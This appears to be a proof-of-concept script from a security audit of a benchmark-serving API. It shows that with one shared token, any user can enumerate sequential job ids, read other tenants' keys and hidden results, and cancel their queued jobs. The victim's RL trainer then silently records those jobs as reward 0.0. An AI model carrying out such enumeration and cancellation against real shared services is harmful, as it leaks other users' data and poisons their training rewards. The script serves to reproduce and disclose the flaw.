#!/usr/bin/env python3
"""T8. No tenant isolation: anyone with the port (and the one shared token) reads every job and
cancels anyone's queued jobs; the victim's trainer takes the cancellation as reward 0.0.

Job ids are sequential (SQLite rowid); GET /v1/jobs/ID and DELETE /v1/jobs/ID check nothing
but the shared token (http_api.cc:130-140, 182-195; service.cc:358-373). job_json
(service.cc:302-318) shows every tenant's idempotency_key, task, timings and the whole result
(report with the session's seed and hidden workloads' labels, docs/serve.md). The client maps a
final job without a result to reward 0.0 (clients/python/ptxbench_client/client.py Job.reward:
`... if self.result else 0.0`), so the TRL/verifiers adapters train on 0.0 for a cancelled or
expired job without any error: an attacker that polls ids and DELETEs whatever is queued sets
another team's rewards to zero (reward poisoning, not just denial).
Shown: tenant A judges 4 replies with judge_batch as the TRL adapter does; B scans ids, reads A's
keys, cancels A's queued jobs; A gets state cancelled, reward 0.0, no exception."""
import sys; sys.dont_write_bytecode = True
import threading, time
from _serve import Serve, GEMM, REPO, variant
sys.path.insert(0, str(REPO / "clients" / "python"))
from ptxbench_client import Client

s = Serve(args=["--workers", "1", "--cpu-slots", "1"])
s.post({"task": GEMM, "source": variant(99)})               # keeps the one worker busy ~3 s
out = {}
def tenant_a():
    c = Client(s.url)
    jobs = [{"task": GEMM, "reply": "```cuda\n" + variant(i) + "```"} for i in range(4)]
    # what trl_reward_func does (adapters.py): [job.reward for job in judge_batch(...)]
    out["jobs"] = [(j.state, j.reward) for j in c.judge_batch(jobs, 120)]
    out["rewards"] = [r for _, r in out["jobs"]]
threading.Thread(target=tenant_a).start()
time.sleep(1.0)
seen, cancelled = [], []
for i in range(1, 20):                                          # tenant B
    st, j = s.get(i)
    if st != 200:
        continue
    seen.append((i, j["state"], j.get("idempotency_key", "")[:8]))
    if j["state"] == "queued" and s.call("DELETE", f"/v1/jobs/{i}")[0] == 200:
        cancelled.append(i)
while "rewards" not in out:
    time.sleep(0.2)
print("B saw (id, state, A's key):", seen)
print("B cancelled:", cancelled)
print("A's judge_batch (the TRL adapter's call) gave (state, reward):", out["jobs"], "- no exception")
print("WORKS" if cancelled else "does not reproduce")
s.stop()
